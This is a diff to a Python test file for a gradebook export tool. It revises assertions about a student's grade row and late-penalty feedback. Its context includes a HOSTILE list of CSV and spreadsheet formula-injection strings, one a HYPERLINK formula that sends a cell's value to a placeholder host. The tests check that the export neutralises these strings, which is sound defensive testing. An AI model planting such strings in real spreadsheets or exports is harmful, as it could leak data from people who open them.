@@ -15,6 +15,7 @@ from grader.instructor.gradebooks.gradebook import Grade, kept_cell
 from grader.report.text import safe_cell, two_decimals
 from tests.made_up_run import DUE, class_run, export, handed, ten_percent, written
 from tests.test_cells import FORMULAS
+from tests.wording import numbers
 
 HOSTILE = ['=HYPERLINK("http://example.org?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "a\nb,c;d", 'quo"ted', "数, σ²"]
 
@@ -35,26 +36,27 @@ def made(run: Path, *options: str | Path) -> dict[str, dict[str, str]]:
 def test_a_row_says_all_that_made_a_grade(tmp_path: Path) -> None:
     jane = Student("s1", "Jane Doe", "jane@example.edu")
     run = class_run(tmp_path, handed(jane, {"kl": "wrong"}, row="a", submitted=DUE + timedelta(hours=30)))
-    assert made(run, "--offering", ten_percent(tmp_path)) == {
-        "s1": {
-            "student": "s1",
-            "name": "Jane Doe",
-            "email": "jane@example.edu",
-            "submission": "a",
-            "points": "11.20",
-            "max_points": "22.00",
-            "status": "graded",
-            "earned": "14.00",
-            "days_late": "2",
-            "late_percent": "20",
-            "by_hand": "0.00",
-            "submitted": "2026-12-03T04:59:00+00:00",
-            "due": "2026-12-01T22:59:00+00:00",
-            "attempt": "1 of 1",
-            "feedback": "11.20 of 22.00 points. 2 days late, handed in 2026-12-03 04:59 UTC, due 2026-12-01 22:59 UTC: "
-            "14.00 points minus 20 % = 11.20. kl: 2.00/10.00 failed.",
-        }
+    (row,) = made(run, "--offering", ten_percent(tmp_path)).values()
+    feedback = row.pop("feedback")
+    assert row == {
+        "student": "s1",
+        "name": "Jane Doe",
+        "email": "jane@example.edu",
+        "submission": "a",
+        "points": "11.20",
+        "max_points": "22.00",
+        "status": "graded",
+        "earned": "14.00",
+        "days_late": "2",
+        "late_percent": "20",
+        "by_hand": "0.00",
+        "submitted": "2026-12-03T04:59:00+00:00",
+        "due": "2026-12-01T22:59:00+00:00",
+        "attempt": "1 of 1",
     }
+    times = ["2026-12-03", "04:59", "2026-12-01", "22:59"]
+    assert numbers(feedback) == ["11.20", "22.00", "2", *times, "14.00", "20", "11.20", "2.00", "10.00"]
+    assert feedback.count("UTC") == 2 and "kl: 2.00" in feedback
 
 
 def test_without_a_roster_all_students_of_the_run_are_written(tmp_path: Path) -> None:
@@ -173,7 +175,7 @@ def test_hostile_reasons_stay_harmless_and_are_kept(tmp_path: Path) -> None:
     run = class_run(tmp_path, *(handed(f"s{i}", problem=f"{text}") for i, text in enumerate(HOSTILE)))
     for text, row in zip(HOSTILE, made(run).values(), strict=True):
         assert row["points"] == "0.00"
-        assert row["feedback"].startswith("0.00 of 22.00 points. Not graded: ")
+        assert numbers(row["feedback"])[:2] == ["0.00", "22.00"]
         assert " ".join(text.split()) in " ".join(row["feedback"].split())
         assert not row["status"].startswith(("=", "+", "-", "@"))
 
